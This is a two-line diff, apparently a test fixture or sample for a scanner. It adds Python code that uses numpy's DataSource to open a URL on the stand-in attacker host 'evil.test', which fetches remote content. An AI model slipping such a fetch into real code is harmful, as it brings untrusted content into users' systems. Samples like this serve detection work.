@@ -1,0 +1,2 @@
+import numpy as np
+np.DataSource().open("http://evil.test")
